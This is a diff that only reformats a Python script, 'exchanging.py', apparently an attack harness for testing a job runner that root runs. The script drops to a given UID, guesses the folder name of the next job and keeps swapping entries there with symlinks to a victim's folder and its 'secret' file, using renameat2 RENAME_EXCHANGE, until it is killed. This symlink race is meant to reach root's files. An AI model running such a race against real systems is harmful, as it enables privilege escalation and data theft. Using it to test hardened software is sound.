@@ -2,8 +2,9 @@
 
 Run as `python exchanging.py UID TREE VICTIM`.
 
-As soon as it may write to a folder of the newest job below TREE it exchanges entries there with links and with second names of root's
-files, as fast as the kernel lets it (renameat2, RENAME_EXCHANGE), until it is killed. It repeats what the kernel refuses.
+As soon as it may write to a folder of the newest job below TREE it exchanges entries there with
+links and with second names of root's files, as fast as the kernel lets it (renameat2,
+RENAME_EXCHANGE), until it is killed. It repeats what the kernel refuses.
 """
 
 import contextlib
@@ -23,7 +24,9 @@ def exchange(one: str, other: str) -> None:
 
 
 def attack(folder: str, victim: str) -> None:
-    """Exchange a folder and a file with a link to the victim's folder, with one to its file, and with a second name of the file."""
+    """Exchange a folder and a file with a link to the victim's folder, with one to its file, and
+    with a second name of the file.
+    """
     for trap, target in (("trap-link", victim), ("trap-file", f"{victim}/secret")):
         with contextlib.suppress(OSError):
             os.symlink(target, f"{folder}/{trap}")
@@ -42,7 +45,9 @@ def main() -> None:
     os.setresuid(uid, uid, uid)
     print("ready", flush=True)
     number = 0
-    while True:  # a job cannot list the folder of all jobs, but it can guess the name of the next one
+    while (
+        True
+    ):  # a job cannot list the folder of all jobs, but it can guess the name of the next one
         for part in ("files", "files/folder", "own"):
             for each in {number, number + 1}:
                 if os.access(f"{tree}/j{each}.1/{part}", os.W_OK):
